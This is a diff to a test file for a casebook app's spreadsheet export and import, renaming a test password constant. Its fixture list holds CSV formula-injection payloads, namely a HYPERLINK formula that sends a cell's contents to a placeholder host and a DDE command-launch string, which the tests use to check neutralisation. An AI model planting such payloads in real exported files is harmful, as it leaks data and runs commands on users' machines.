@@ -13,7 +13,7 @@ from models.clients import Client
 from models.transfer import spreadsheets as csvio
 from models.transfer.spreadsheet_cells import neutralise, restore
 from tests.support.cli import assert_bad_input, run
-from tests.support.importing import PASS, casebook, count, csv_text, good_row  # noqa: F401
+from tests.support.importing import IMPORT_PASS, casebook, count, csv_text, good_row  # noqa: F401
 
 FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "@SUM(1+1)*cmd|' /C calc'!A0",
             "+1+1", "-2+3", "\t=1+1", "'=already quoted", "''+twice"]
@@ -32,7 +32,7 @@ def test_neutralise_is_undone_by_restore(text):
 
 def test_csv_export_neutralises_formulas_and_imports_back_to_the_same_text(casebook,  # noqa: F811
                                                                             tmp_path, capsys):
-    book = Casebook.open(casebook, "ana", PASS)
+    book = Casebook.open(casebook, "ana", IMPORT_PASS)
     try:
         book.clients.add(Client(FORMULAS[0], aliases=(FORMULAS[1],), city="+1+1",
                                 phone="+1 416 555 0100", immigration_notes="-2+3"))
@@ -80,7 +80,7 @@ def test_a_namesake_with_another_birth_year_is_not_a_duplicate(casebook, tmp_pat
     g = tmp_path / "d.csv"
     g.write_text("display_name,birth_year\nExisting Person,1991\n", encoding="utf-8")
     # Now one Existing Person is born in 1980 and the other unknown: still the unknown one.
-    book = Casebook.open(casebook, "ana", PASS)
+    book = Casebook.open(casebook, "ana", IMPORT_PASS)
     try:
         from models.transfer.importing.duplicates import find_existing
         (match,) = find_existing(book, [(2, Client("Existing Person", birth_year=1991))])
@@ -98,7 +98,7 @@ def test_xlsx_export_stores_formulas_as_text_and_imports_back(casebook, tmp_path
     from models.transfer.importing.plan import ImportPlan
     from models.transfer.importing.source import read_source
 
-    book = Casebook.open(casebook, "ana", PASS)
+    book = Casebook.open(casebook, "ana", IMPORT_PASS)
     try:
         book.clients.add(Client(FORMULAS[0], aliases=(FORMULAS[1],), city="+1+1"))
     finally:
